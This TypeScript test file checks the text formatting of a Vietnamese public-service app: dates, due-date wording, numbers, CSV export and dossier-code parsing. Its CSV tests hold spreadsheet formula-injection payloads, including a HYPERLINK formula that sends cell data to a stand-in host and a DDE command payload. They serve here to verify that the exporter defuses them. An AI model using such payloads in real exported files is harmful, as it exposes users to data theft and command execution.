import i18n from 'i18next';
import { type DueSource, dueTone, dueWords } from '../../src/ui/page/due-text';
import { notFormula, toCsv } from '../../src/ui/text/csv';
import {
  formatDate,
  formatDateTime,
  formatDateTimeShort,
  formatDayShort,
  formatMonth,
  formatMonthShort,
  isSameDay,
} from '../../src/ui/text/date-format';
import { readDossierCode, readSlipCode } from '../../src/ui/text/dossier-code';
import { dueMomentText } from '../../src/ui/text/due-moment-text';
import { durationText } from '../../src/ui/text/duration-text';
import { limitText } from '../../src/ui/text/limit-text';
import { formatDecimal, formatDong, formatNumber, formatPercent, formatRate } from '../../src/ui/text/number-format';
import { toDay } from '../../src/ui/text/vietnam-day';
import { waitText } from '../../src/ui/text/wait-text';

const t = i18n.getFixedT('vi', 'common') as Parameters<typeof dueWords>[0];
const row = (change: Partial<DueSource>): DueSource => ({
  dueAt: '2021-11-25T17:00:00+07:00',
  timeliness: null,
  status: 'PROCESSING',
  deadline: { state: 'OPEN_WITHIN', workingMinutesLeft: 3 * 480 + 20 },
  ...change,
});

it('a wait is told in seconds below a minute, else in whole minutes that are never too few', () => {
  const told = [0, 30, 59, 60, 61, 300, 3_599].map((seconds) => waitText(t, seconds));
  expect(told).toEqual(['1 giây', '30 giây', '59 giây', '1 phút', '2 phút', '5 phút', '60 phút']);
});

describe('dates', () => {
  it('are those of Viet Nam, whatever the zone of the PC', () => {
    expect(formatDateTime('2021-02-08T17:30:00Z')).toBe('00:30 09/02/2021');
    expect(toDay('2021-02-08T16:59:59Z')).toBe('2021-02-08');
    expect(formatDate('2021-03-05')).toBe('05/03/2021');
    expect(formatMonth('2021-03')).toBe('3/2021');
    expect(isSameDay('2021-02-08T18:00:00Z', '2021-02-09T10:00:00+07:00')).toBe(true);
  });

  it('show the year only where it is another one', () => {
    const now = Date.parse('2021-11-21T09:00:00+07:00');
    expect(formatDateTimeShort('2021-11-25T17:00:00+07:00', now)).toBe('17:00 25/11');
    expect(formatDateTimeShort('2022-01-04T17:00:00+07:00', now)).toBe('17:00 04/01/2022');
  });

  it('say what the moment of return means', () => {
    const now = Date.parse('2021-11-19T09:00:00+07:00');
    expect(dueMomentText(t, '2021-11-19T17:00:00+07:00', now)).toBe('17:00 hôm nay, 19/11');
    expect(dueMomentText(t, '2021-11-22T10:00:00+07:00', now)).toBe('10:00 thứ Hai, 22/11');
  });
});

describe('the due date in words', () => {
  it('says what is left, and how far it is over', () => {
    expect(dueWords(t, row({}))).toBe('còn 3 ngày làm việc');
    const late = row({ deadline: { state: 'OPEN_OVERDUE', workingMinutesLeft: -(2 * 480) } });
    expect(dueWords(t, late)).toBe('Quá hạn 2 ngày làm việc');
    expect(dueTone(late)).toBe('overdue');
    expect(dueTone(row({ deadline: { state: 'OPEN_WITHIN', workingMinutesLeft: 300 } }))).toBe('soon');
  });

  it('says why nothing is running', () => {
    const paused = { state: 'PAUSED', workingMinutesLeft: null } as const;
    expect(dueWords(t, row({ dueAt: null, deadline: paused }))).toBe('Tạm dừng, chờ công dân');
    expect(dueTone(row({ deadline: paused }))).toBe('overdue');
    const done = { state: 'COMPLETED', workingMinutesLeft: null } as const;
    expect(dueWords(t, row({ timeliness: 'EARLY', status: 'RETURNED', deadline: done }))).toBe('Xong trước hạn');
    expect(dueWords(t, row({ status: 'WITHDRAWN', deadline: done }))).toBe('Đã kết thúc');
    expect(dueWords(t, row({ dueAt: null }))).toBe('Không quy định thời hạn');
  });
});

describe('durations, limits and numbers', () => {
  it('never promise more time than there is', () => {
    expect(durationText(t, 2 * 480 + 479)).toBe('2 ngày làm việc');
    expect(durationText(t, 480 + 185)).toBe('1 ngày 3 giờ làm việc');
    expect(durationText(t, 59)).toBe('59 phút');
  });

  it('read as on paper', () => {
    expect(limitText(t, { amount: 3, unit: 'WORKING_DAYS' })).toBe('3 ngày làm việc');
    expect(limitText(t, { amount: null, unit: 'SAME_DAY' })).toBe('trong ngày');
    expect(formatDong(1234567)).toBe('1.234.567 đ');
    expect(formatNumber(999)).toBe('999');
    expect(formatRate(0.9344)).toBe('93,4 %');
    expect(formatRate(null)).toBe('—');
  });
});

describe('in English', () => {
  beforeEach(() => i18n.changeLanguage('en'));
  afterEach(() => i18n.changeLanguage('vi'));

  it('numbers, rates and money are written the English way', () => {
    expect(formatNumber(1148)).toBe('1,148');
    expect(formatNumber(-1234567)).toBe('-1,234,567');
    expect(formatRate(0.956)).toBe('95.6%');
    expect(formatRate(0.9, 0)).toBe('90%');
    expect(formatPercent(82.7)).toBe('82.7%');
    expect(formatDecimal(12.5)).toBe('12.5');
    expect(formatDong(20000)).toBe('20,000 VND');
  });

  it('the month of a day is a word, so that 3/11 is not taken for the eleventh of March', () => {
    const now = Date.parse('2026-11-21T09:00:00+07:00');
    expect(formatDate('2026-11-03')).toBe('3 Nov 2026');
    expect(formatDate('2021-02-08T17:30:00Z')).toBe('9 Feb 2021');
    expect(formatDateTime('2026-11-21T17:00:00+07:00')).toBe('17:00 21 Nov 2026');
    expect(formatDateTimeShort('2026-11-25T17:00:00+07:00', now)).toBe('17:00 25 Nov');
    expect(formatDayShort('2027-01-04T17:00:00+07:00', now)).toBe('4 Jan 2027');
    expect(formatMonth('2026-11')).toBe('Nov 2026');
    expect(formatMonthShort('2026-11')).toBe('Nov ’26');
    const en = i18n.getFixedT('en', 'common') as typeof t;
    expect(dueMomentText(en, '2026-11-21T17:00:00+07:00', now)).toBe('17:00 today, 21 Nov');
  });

  it('a count inside a sentence is written like any other number', () => {
    expect(i18n.t('limit.WORKING_DAYS', { count: 1148 })).toBe('1,148 working days');
    expect(i18n.getFixedT('vi', 'common')('limit.WORKING_DAYS', { count: 7 })).toBe('7 ngày làm việc');
  });
});

describe('the exported file', () => {
  it('quotes what must be quoted and lets no cell become a formula', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,"y"', '=1+1'],
          [null, 2],
        ],
      ),
    ).toBe('a,b\r\n"x,""y""",\'=1+1\r\n,2');
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+84912345678',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1＋1',
    '－1',
  ])('makes text of %j', (text) => {
    expect(notFormula(text)).toBe(`'${text}`);
    const [, row] = /^x\r\n(.*)$/s.exec(toCsv(['x'], [[text]]))!;
    expect(row!.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('lets no cell begin in the middle of another, whatever parts the cells', () => {
    expect(toCsv(['a'], [['x;=1+1'], ['x\t=1+1'], ['x\n=1+1']])).toBe('a\r\n"x;=1+1"\r\n"x\t=1+1"\r\n"x\n=1+1"');
  });

  it('leaves numbers numbers, and texts that only have such a sign inside', () => {
    expect(toCsv(['a'], [[-5], ['-5'], ['-1.234,5'], ['A = B'], ['hoa@example.vn'], ['2026-11-23']])).toBe(
      'a\r\n-5\r\n-5\r\n"-1.234,5"\r\nA = B\r\nhoa@example.vn\r\n2026-11-23',
    );
  });
});

describe('the code of a dossier', () => {
  it('is found in a bar code, in the address of a QR code and among blanks', () => {
    const code = '000.17.28.H56-210305-0007';
    expect(readDossierCode(code)).toBe(code);
    expect(readDossierCode(`https://hcc.example/?ma=${code}`)).toBe(code);
    expect(readDossierCode(' 000.17.28.h56 - 210305 - 0007 ')).toBe(code);
    expect(readDossierCode(`http://localhost:4000/?ma=${code}#7KXS3M9PQ2RTV4`)).toBe(code);
    expect(readDossierCode('khai sinh')).toBeUndefined();
    expect(readDossierCode('000.17.28.H56-210305-007')).toBeUndefined();
  });

  it('is told from the secret that a slip carries beside it, however both are typed', () => {
    const code = '000.17.28.H56-210305-0007';
    const whole = { code, key: '7KXS3M9PQ2RTV4' };
    for (const typed of [
      `https://hcc.example/?ma=${code}#7KXS3M9PQ2RTV4`,
      `${code} 7KXS3-M9PQ-2RTV4`,
      ` ${code.toLowerCase()}  7kxs3 m9pq 2rtv4 `,
      `${code}-7KXS3-M9PQ-2RTV4`,
      `${code}7KXS3M9PQ2RTV4`,
    ]) {
      expect(readSlipCode(typed)).toEqual(whole);
    }
    expect(readSlipCode('000.17.28.H56-210305-12345 0123-4567-890123')).toEqual({
      code: '000.17.28.H56-210305-12345',
      key: '01234567890123',
    });
    expect(readSlipCode(`${code} 7KXS3`)).toEqual({ code });
  });
});
